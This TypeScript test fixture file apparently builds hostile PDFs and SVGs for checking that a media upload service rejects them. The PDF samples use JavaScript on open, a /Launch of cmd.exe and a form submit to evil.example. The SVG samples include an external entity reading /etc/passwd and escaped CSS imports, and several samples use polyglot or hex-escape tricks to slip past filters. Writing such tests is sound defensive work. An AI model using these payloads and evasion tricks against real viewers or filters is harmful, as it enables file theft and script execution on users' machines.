// Hostile files for issue 15 class 6, built in the tests: PDFs carrying JavaScript, automatic
// actions, embedded files, RichMedia, XFA or hidden markup (several inside compressed object
// streams), and the clean PDFs and SVGs that must still pass. PDFs are written with
// @cantoo/pdf-lib (the library media checks them with), or by hand where a file must be shaped
// in a way no library writes (a hex-escaped name, a second revision, markup between objects).
import zlib from "node:zlib";
import { type PDFArray, PDFDocument, PDFName, PDFString } from "@cantoo/pdf-lib";

type Build = (doc: PDFDocument) => void | Promise<void>;

/** A one-page PDF with a line of text, changed by `build`; object streams unless `classic`. */
export async function pdf(
  build: Build = () => undefined,
  opts: { classic?: boolean; userPassword?: string } = {},
): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.setTitle("Báo cáo");
  doc.addPage([300, 300]).drawText("Bao cao chuyen doi so", { x: 20, y: 150, size: 12 });
  await build(doc);
  if (opts.userPassword !== undefined)
    await doc.encrypt({ userPassword: opts.userPassword, ownerPassword: "chu-so-huu", permissions: {} });
  return Buffer.from(await doc.save({ useObjectStreams: !opts.classic }));
}

const js = (doc: PDFDocument, code = "app.alert('xin chao')") =>
  doc.context.register(doc.context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of(code) }));

const annotate = (doc: PDFDocument, annot: Record<string, unknown>) => {
  const page = doc.getPage(0);
  const ref = doc.context.register(
    doc.context.obj({ Type: "Annot", Rect: [0, 0, 50, 50], ...annot } as never),
  );
  page.node.set(PDFName.of("Annots"), doc.context.obj([ref]));
};

/** A PDF cut by hand: objects, an optional object stream, a correct xref table. */
export function handPdf(
  objects: string[],
  opts: { objStm?: { inner: string; filters: "flate" | "hex+flate" } } = {},
) {
  let out = "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n";
  const offsets: number[] = [];
  const all = [...objects];
  if (opts.objStm) {
    const n = all.length + 2; // the object inside the stream
    const head = `${n} 0 `;
    const body = zlib.deflateSync(Buffer.from(head + opts.objStm.inner, "latin1"));
    const data = opts.objStm.filters === "flate" ? body.toString("latin1") : `${body.toString("hex")}>`;
    const filter = opts.objStm.filters === "flate" ? "/FlateDecode" : "[/ASCIIHexDecode /FlateDecode]";
    all.push(
      `<< /Type /ObjStm /N 1 /First ${head.length} /Filter ${filter} /Length ${data.length} >>\nstream\n${data}\nendstream`,
    );
  }
  all.forEach((o, i) => {
    offsets.push(Buffer.byteLength(out, "latin1"));
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, "latin1");
  out += `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`).join("")}`;
  out += `trailer\n<< /Size ${all.length + 2} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, "latin1");
}

const CATALOG = (extra = "") => `<< /Type /Catalog /Pages 2 0 R ${extra}>>`;
const PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
const PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>";

/** [what, PDF, the reason media answers] */
export async function hostilePdfs(): Promise<[string, Buffer, string][]> {
  const clean = await pdf();
  return [
    [
      "JavaScript run on open, inside a compressed object stream",
      await pdf((d) => void d.catalog.set(PDFName.of("OpenAction"), js(d))),
      "pdf_scripted",
    ],
    [
      "document-level JavaScript (/Names /JavaScript)",
      await pdf((d) => {
        const names = d.context.obj({ Names: [PDFString.of("x"), js(d)] });
        d.catalog.set(PDFName.of("Names"), d.context.obj({ JavaScript: d.context.register(names) }));
      }),
      "pdf_scripted",
    ],
    [
      "a page's additional action (/AA) without object streams",
      await pdf(
        (d) => {
          d.getPage(0).node.set(PDFName.of("AA"), d.context.obj({ O: js(d) }));
        },
        { classic: true },
      ),
      "pdf_scripted",
    ],
    [
      "a link that launches a program (/Launch)",
      await pdf((d) =>
        annotate(d, {
          Subtype: "Link",
          A: d.context.obj({ S: "Launch", F: PDFString.of("C:\\Windows\\System32\\cmd.exe") }),
        }),
      ),
      "pdf_scripted",
    ],
    [
      "an embedded file (/EmbeddedFiles)",
      await pdf(async (d) => {
        await d.attach(Buffer.from("MZ\x90\x00"), "ho-so.exe", { mimeType: "application/octet-stream" });
      }),
      "pdf_scripted",
    ],
    [
      "a RichMedia (Flash) annotation",
      await pdf((d) =>
        annotate(d, {
          Subtype: "RichMedia",
          RichMediaContent: d.context.obj({ Assets: d.context.obj({ Names: [] }) }),
        }),
      ),
      "pdf_scripted",
    ],
    [
      "an XFA form",
      await pdf((d) => {
        d.catalog.set(PDFName.of("AcroForm"), d.context.obj({ Fields: [], XFA: PDFString.of("<xdp:xdp/>") }));
      }),
      "pdf_scripted",
    ],
    [
      "a form that submits itself (/SubmitForm)",
      await pdf((d) =>
        annotate(d, {
          Subtype: "Link",
          A: d.context.obj({ S: "SubmitForm", F: PDFString.of("https://evil.example/collect") }),
        }),
      ),
      "pdf_scripted",
    ],
    [
      "JavaScript under a hex-escaped name (/J#61vaScript) in a hex+flate object stream",
      handPdf([CATALOG("/OpenAction 5 0 R "), PAGES, PAGE], {
        objStm: { inner: "<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>", filters: "hex+flate" },
      }),
      "pdf_scripted",
    ],
    [
      "JavaScript in an earlier revision, replaced by an incremental update",
      Buffer.concat([
        handPdf([CATALOG("/OpenAction 4 0 R "), PAGES, PAGE, "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"]),
        Buffer.from(
          "4 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\ntrailer\n<< /Size 5 /Root 1 0 R >>\n%%EOF\n",
        ),
      ]),
      "pdf_scripted",
    ],
    [
      "JavaScript in a PDF encrypted without a user password",
      await pdf((d) => void d.catalog.set(PDFName.of("OpenAction"), js(d)), { userPassword: "" }),
      "pdf_scripted",
    ],
    [
      "a PDF that needs a password to open",
      await pdf(() => undefined, { userPassword: "mat-khau" }),
      "pdf_encrypted",
    ],
    [
      "HTML appended after %%EOF",
      Buffer.concat([clean, Buffer.from("<html><body onload=alert(1)></body></html>")]),
      "polyglot",
    ],
    [
      "SVG appended after %%EOF",
      Buffer.concat([clean, Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n')]),
      "polyglot",
    ],
    [
      "SVG hidden between two %%EOF",
      Buffer.concat([clean, Buffer.from('<svg onload="alert(1)"/>\n%%EOF\n')]),
      "polyglot",
    ],
    [
      "script appended after %%EOF",
      Buffer.concat([clean, Buffer.from("\n<script>alert(1)</script>")]),
      "polyglot",
    ],
    [
      "no %%EOF at all",
      Buffer.from(clean.toString("latin1").replaceAll("%%EOF", "%%END"), "latin1"),
      "pdf_invalid",
    ],
    ["a header and nothing a reader can use", Buffer.from("%PDF-1.7\nxin chao\n%%EOF\n"), "pdf_invalid"],
  ];
}

/** [what, PDF] that media keeps */
export async function cleanPdfs(): Promise<[string, Buffer][]> {
  return [
    ["written with object streams", await pdf()],
    ["written with an xref table", await pdf(() => undefined, { classic: true })],
    [
      "opening at its first page (an /OpenAction that is not script)",
      await pdf((d) => {
        d.catalog.set(PDFName.of("OpenAction"), d.context.obj([d.getPage(0).ref, PDFName.of("Fit")]));
      }),
    ],
    [
      "with a web link (/URI)",
      await pdf((d) =>
        annotate(d, {
          Subtype: "Link",
          A: d.context.obj({ S: "URI", URI: PDFString.of("https://bacgiang.gov.vn") }),
          Border: d.context.obj([0, 0, 0]) as PDFArray,
        }),
      ),
    ],
    [
      "encrypted without a user password (printing restricted)",
      await pdf(() => undefined, { userPassword: "" }),
    ],
    ["ending in CR LF and padding", Buffer.concat([await pdf(), Buffer.from("\r\n\0\0 \n")])],
  ];
}

/** [what, SVG, the reason media answers] — uploaded whole to the real service */
export const HOSTILE_SVGS: [string, string, string][] = [
  [
    "<set> that turns a link into javascript:",
    '<svg xmlns="http://www.w3.org/2000/svg"><a href="#r"><set attributeName="href" to="javascript:alert(1)"/><rect id="r" width="9" height="9"/></a></svg>',
    "svg_scripted",
  ],
  [
    "<animate> of xlink:href",
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="#r"><animate attributeName="xlink:href" values="javascript:alert(1)" dur="1s"/><rect id="r" width="9" height="9"/></a></svg>',
    "svg_scripted",
  ],
  [
    "CSS @import in <style>",
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url("https://evil.example/x.css");</style><rect width="9" height="9"/></svg>',
    "svg_scripted",
  ],
  [
    "CSS @import hidden by an escape",
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@\\69mport "x.css";</style><rect width="9" height="9"/></svg>',
    "svg_scripted",
  ],
  [
    "an external url() in style=",
    '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(\'https://evil.example/p.svg#g\')" width="9" height="9"/></svg>',
    "svg_scripted",
  ],
  [
    "a script in the XHTML namespace",
    '<svg xmlns="http://www.w3.org/2000/svg"><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></svg>',
    "svg_scripted",
  ],
  [
    "an event handler",
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>',
    "svg_scripted",
  ],
  [
    "an external entity",
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    "svg_scripted",
  ],
  [
    "an xml-stylesheet instruction",
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    "svg_scripted",
  ],
  [
    "an external image",
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/track.png" width="9" height="9"/></svg>',
    "svg_scripted",
  ],
  [
    "markup that is not well-formed",
    '<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"></svg>',
    "svg_invalid",
  ],
];
